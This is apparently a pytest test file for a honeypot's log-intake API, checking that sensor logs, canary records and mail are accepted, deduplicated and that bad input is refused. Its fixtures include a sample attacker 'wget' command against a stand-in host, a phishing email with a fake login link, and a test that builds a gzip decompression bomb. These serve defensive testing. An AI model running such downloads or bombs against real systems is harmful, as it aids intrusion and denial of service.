from __future__ import annotations

import gzip
import json
import socket
import zlib
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path
from typing import TYPE_CHECKING, Any

import httpx
import pytest

from decnet.cli.opening import open_installation
from decnet.cli.tagging import open_direct
from decnet.db.refusals import refusal_page
from decnet.web.guard import MAX_INTAKE
from decnet.web.routes.accounts import make_key
from decnet.workers.handed import MAX_UNPACKED, MOST_TOLD
from tests.databases import rows
from tests.web.conftest import RECORDING

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.web.conftest import Api

LOG = Path(RECORDING).read_bytes()
SENSOR = "web01"
MAIL = b"""\
Received: from relay.example (relay.example [198.51.100.9]) by mx.decoy.example with ESMTP for <info@decoy.example>;
\tMon, 23 Nov 2026 01:36:18 +0000
From: "Bank" <bank@evil.example>
To: info@decoy.example
Subject: Your account
Message-ID: <1@evil.example>

Please log in at http://203.0.113.7/login
"""


@pytest.fixture
def sensor(empty_api: Api) -> Iterator[httpx.Client]:
    with empty_api.asking(token(empty_api, SENSOR)) as client:
        yield client


def token(api: Api, name: str) -> str:
    return make_key(api.place.database, name, "sensor", actor="test", now=api.place.clock()).key


def handed_in(client: httpx.Client, form: str, body: bytes | str, **headers: str) -> dict[str, Any]:
    answer = client.post(f"/intake/{form}", content=body, headers=headers)
    assert answer.status_code == 202, answer.text
    found: dict[str, Any] = answer.json()
    return found


def own_line(number: int = 0, **fields: object) -> str:
    record = {
        "decnet": 1,
        "observed_at": f"2026-11-23T01:36:{number % 60:02}Z",
        "source_kind": "command",
        "src_ip": "198.51.100.14",
        "sensor": "elsewhere",
        "protocol": "ssh",
        "native_session": "17",
        "payload": {"command_text": f"wget http://203.0.113.7/{number}"},
    }
    return json.dumps(record | fields)


def event_ids(api: Api) -> list[bytes]:
    return [row[0] for row in rows(api.place.database, "SELECT id FROM event ORDER BY id")]


def test_a_log_that_is_handed_in_makes_the_events_that_it_makes_when_it_is_read(
    sensor: httpx.Client, empty_api: Api, tmp_path: Path
) -> None:
    taken = handed_in(sensor, "cowrie", LOG)
    (tmp_path / "read").mkdir()
    with open_direct(data_dir=tmp_path / "read", sensor=SENSOR) as run:
        run.read(RECORDING)
    with open_installation(tmp_path / "read") as read:
        expected = [row[0] for row in rows(read.database, "SELECT id FROM event ORDER BY id")]
    assert event_ids(empty_api) == expected
    assert (taken["accepted"], taken["refused_total"]) == (len(expected), 0)
    assert rows(empty_api.place.database, "SELECT count(*) FROM outbox") != [(0,)]


def test_handing_in_again_adds_nothing(sensor: httpx.Client, empty_api: Api) -> None:
    first = handed_in(sensor, "cowrie", LOG)
    before = event_ids(empty_api)
    again = handed_in(sensor, "cowrie", LOG)
    assert (again["accepted"], again["known"]) == (0, first["accepted"])
    assert event_ids(empty_api) == before


def test_a_packed_body_is_the_same(sensor: httpx.Client) -> None:
    plain = handed_in(sensor, "cowrie", LOG)
    packed = gzip.compress(LOG[:5_000]) + gzip.compress(LOG[5_000:])
    again = handed_in(sensor, "cowrie", packed, **{"Content-Encoding": "gzip"})
    assert (again["accepted"], again["known"]) == (0, plain["accepted"])


def test_own_lines_and_canary_lines_are_taken(sensor: httpx.Client, empty_api: Api) -> None:
    assert handed_in(sensor, "jsonl", "\n".join(map(own_line, range(3))))["accepted"] == 3
    canary = {
        "dst_host": "192.0.2.10",
        "dst_port": 21,
        "local_time": "2026-11-23 01:36:17.123456",
        "logdata": {"USERNAME": "root", "PASSWORD": "hunter2"},
        "logtype": 2000,
        "node_id": "opencanary-1",
        "src_host": "198.51.100.14",
        "src_port": 40222,
    }
    assert handed_in(sensor, "opencanary", json.dumps(canary))["accepted"] >= 1
    stored = rows(empty_api.place.database, "SELECT payload FROM event")
    assert not any("hunter2" in payload for (payload,) in stored)


def test_a_record_gets_into_no_other_sensors_session(empty_api: Api) -> None:
    with empty_api.asking(token(empty_api, "dmz-1")) as honest, empty_api.asking(token(empty_api, "mallory")) as liar:
        handed_in(honest, "jsonl", own_line(1, sensor="dmz-1"))
        before = rows(empty_api.place.database, "SELECT uuid, event_count FROM session ORDER BY id")
        handed_in(liar, "jsonl", own_line(2, sensor="dmz-1"))
    after = rows(empty_api.place.database, "SELECT uuid, event_count FROM session ORDER BY id")
    assert after[:1] == before
    names = "SELECT s.name FROM session JOIN sensor s ON s.id = session.sensor_id ORDER BY session.id"
    assert rows(empty_api.place.database, names) == [("dmz-1",), ("mallory",)]


def test_a_mail_is_taken_and_kept(sensor: httpx.Client, empty_api: Api) -> None:
    assert handed_in(sensor, "mail", MAIL)["accepted"] == 1
    ((payload,),) = rows(empty_api.place.database, "SELECT payload FROM event")
    digest = json.loads(payload)["message_sha256"]
    assert empty_api.place.artifacts.get(bytes.fromhex(digest)) == MAIL  # type: ignore[arg-type]
    assert handed_in(sensor, "mail", MAIL)["known"] == 1


def test_messages_behind_each_other_are_taken_one_by_one(sensor: httpx.Client) -> None:
    mbox = b"".join(
        b"From x@evil.example Mon Nov 23 01:36:18 2026\n" + MAIL.replace(b"<1@", b"<%d@" % number) + b"\n"
        for number in range(3)
    )
    assert handed_in(sensor, "mail", mbox)["accepted"] == 3


@pytest.mark.parametrize("scope", ["viewer", "admin", "metrics"])
def test_only_sensors_hand_in(empty_api: Api, scope: Any) -> None:
    with empty_api.as_(scope) as client:
        assert client.post("/intake/cowrie", content=LOG).status_code == 403
    assert empty_api.client.post("/intake/cowrie", content=LOG).status_code == 401
    assert event_ids(empty_api) == []


def test_what_is_refused_is_told_by_line_and_counted(sensor: httpx.Client, empty_api: Api) -> None:
    bad = [b"\xff\xfe\x00garbage", b"[1]", b'{"decnet": 1}', b"\x1b[31m"] * 10
    body = b"\n".join([own_line(1).encode(), *bad, own_line(2).encode()])
    for _ in range(2):
        taken = handed_in(sensor, "jsonl", body)
        assert (taken["accepted"] + taken["known"], taken["refused_total"]) == (2, 40)
        assert [one["line"] for one in taken["refused"]] == list(range(2, MOST_TOLD + 2))
        assert all(one["why"].isascii() and "\x1b" not in one["why"] for one in taken["refused"])
    counted = empty_api.place.database.read(lambda connection: refusal_page(connection, limit=100))
    assert sum(one.count for one in counted) == 80
    assert {one.sensor for one in counted} == {SENSOR}


def test_junk_is_refused_and_breaks_nothing(sensor: httpx.Client) -> None:
    junk = bytes(range(256)) * 5_000
    for form in ("cowrie", "opencanary", "jsonl", "mail"):
        assert handed_in(sensor, form, junk)["accepted"] == 0
        assert handed_in(sensor, form, b"") == {"accepted": 0, "known": 0, "refused_total": 0, "refused": []}


def test_a_line_that_is_too_long_is_refused_and_the_next_one_taken(sensor: httpx.Client) -> None:
    taken = handed_in(sensor, "jsonl", b"x" * (3 << 20) + b"\n" + own_line().encode())
    assert (taken["accepted"], taken["refused_total"]) == (1, 1)
    assert taken["refused"][0]["why"].startswith("longer than one line may be")


def test_a_body_that_is_too_large_is_refused(sensor: httpx.Client, empty_api: Api) -> None:
    with socket.create_connection((sensor.base_url.host, sensor.base_url.port or 0), 10) as connection:
        head = f"POST /api/v1/intake/jsonl HTTP/1.1\r\nHost: localhost\r\nContent-Length: {MAX_INTAKE + 1}\r\n"
        connection.sendall(f"{head}Authorization: {sensor.headers['Authorization']}\r\n\r\nx".encode())
        assert connection.recv(1_000).startswith(b"HTTP/1.1 413 ")
    assert event_ids(empty_api) == []


@pytest.mark.timeout(60)
def test_a_body_that_grows_too_large_is_cut_off_and_what_came_before_is_stored_once(
    sensor: httpx.Client, empty_api: Api
) -> None:
    def pieces() -> Iterator[bytes]:
        yield own_line().encode() + b"\n"
        for _ in range((MAX_INTAKE >> 20) + 1):
            yield b" " * (1 << 20)

    with suppress(httpx.WriteError):  # whoever is refused may notice it while still writing
        assert sensor.post("/intake/jsonl", content=pieces()).status_code == 413
    assert len(event_ids(empty_api)) == 1
    assert handed_in(sensor, "jsonl", own_line())["known"] == 1


@pytest.mark.timeout(60)
@pytest.mark.parametrize(("filling", "why"), [(b" ", "unpacks into more than"), (b"\n", "has more than")])
def test_a_bomb_is_refused_before_it_has_unpacked(sensor: httpx.Client, filling: bytes, why: str) -> None:
    packer = zlib.compressobj(9, wbits=31)
    bomb = b"".join(packer.compress(filling * (1 << 20)) for _ in range((MAX_UNPACKED >> 20) + 8)) + packer.flush()
    assert len(bomb) < 1 << 20
    answer = sensor.post("/intake/jsonl", content=bomb, headers={"Content-Encoding": "gzip"})
    assert answer.status_code == 400
    assert why in answer.json()["detail"]


@pytest.mark.parametrize(
    ("body", "encoding", "status"),
    [
        (b"no gzip at all", "gzip", 400),
        (gzip.compress(LOG)[:-20], "gzip", 400),
        (LOG, "br", 415),
        (LOG, "gzip, gzip", 415),
    ],
)
def test_a_body_that_cannot_be_unpacked_is_refused(
    sensor: httpx.Client, body: bytes, encoding: str, status: int
) -> None:
    answer = sensor.post("/intake/cowrie", content=body, headers={"Content-Encoding": encoding})
    assert answer.status_code == status


def test_an_unknown_format_is_refused(sensor: httpx.Client) -> None:
    assert sensor.post("/intake/zeek", content=LOG).status_code == 400


def test_two_at_a_time_store_everything_once(sensor: httpx.Client, empty_api: Api) -> None:
    with ThreadPoolExecutor(4) as pool:
        taken = list(pool.map(lambda _: handed_in(sensor, "cowrie", LOG), range(4)))
    assert sum(one["accepted"] for one in taken) == len(event_ids(empty_api))
    assert sum(one["accepted"] + one["known"] for one in taken) == 4 * len(event_ids(empty_api))
